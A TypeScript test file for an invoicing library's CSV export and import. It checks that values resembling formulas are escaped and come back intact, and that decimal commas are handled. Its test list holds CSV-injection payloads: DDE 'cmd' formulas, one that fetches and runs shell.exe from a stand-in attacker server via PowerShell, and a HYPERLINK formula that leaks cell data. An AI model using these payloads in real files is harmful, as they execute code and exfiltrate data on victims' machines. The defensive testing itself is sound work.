import { Ledger } from "encours";
import { expect, test } from "vitest";
import { csvFile, csvLine } from "./csv.ts";

const bytes = async (...lines: string[]) => new Uint8Array(await csvFile(lines).arrayBuffer());

/** What a spreadsheet would run, from the lists of those who attack by CSV. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '=HYPERLINK("http://example.org?"&A1,"click")',
  "=1;2",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  "+33 6 12 34 56 78",
  "- sans nom -",
  "'=1+1",
  "''=1+1",
];
const TEXTS = [
  "",
  "'",
  "'s-Hertogenbosch",
  "Café « L’Été »",
  'dit "Bob"',
  "a;b",
  "a\nb",
  "-12.50",
  "007",
  "1,5",
];

test("no cell begins like a formula, and each reads back as it was", async () => {
  for (const text of FORMULAS) {
    const line = csvLine([text]);
    expect(line, text).toMatch(/^"'/);
    // A header, a cell, and one that a spreadsheet has written again without quotes.
    const { columns, rows } = Ledger.csvColumns(
      await bytes(csvLine([text, "x"]), csvLine(["y", text])),
    );
    expect([columns[0], rows[0]?.[1]], text).toEqual([text, text]);
    if (/["\t\r\n;]/.test(text)) continue;
    const bare = Ledger.csvColumns(await bytes("x;y", `a;'${text}`));
    expect(bare.rows[0]?.[1], text).toBe(text);
  }
  for (const text of TEXTS) {
    const { rows } = Ledger.csvColumns(await bytes(csvLine(["x", "y"]), csvLine(["a", text])));
    expect(rows[0]?.[1]).toBe(text);
    expect(csvLine([text])).toBe(`"${text.replaceAll('"', '""')}"`);
  }
});

test("figures have the comma, whatever stands in them; days stay as they are", () => {
  const kinds = ["amount", "percent", "number", "integer", "date", "text"] as const;
  const cells = ["-1234.50", "64.84", "1.234", "-3", "2025-04-03", "1.5"];
  expect(csvLine(cells, kinds)).toBe('-1234,50;64,84;1,2340;-3;2025-04-03;"1.5"');
  expect(csvLine(["", "=1"], kinds)).toBe(`;"'=1"`);
});

test("customers with any name, amounts in any currency come back from a CSV", async () => {
  const names = FORMULAS.map((text) => text.trim()).filter((text) => !text.startsWith("\uFEFF"));
  const invoices = names.map((customer, at) => ({
    id: `=F${at}`,
    customer,
    issued: "2025-04-03",
    due: "2025-05-04",
    amount: at % 2 === 0 ? "1.234" : "-2.005",
    currency: "TND",
  }));
  const kinds = ["text", "text", "date", "date", "amount", "text"] as const;
  const file = await bytes(
    csvLine(["Numéro", "Client", "Date", "Échéance", "Montant TTC", "Devise"]),
    ...invoices.map((one) =>
      csvLine([one.id, one.customer, one.issued, one.due, one.amount, one.currency], kinds),
    ),
  );
  const { ledger, rejected } = Ledger.fromCsv(file);
  expect(rejected).toEqual([]);
  expect(ledger.invoices()).toEqual(invoices);
});
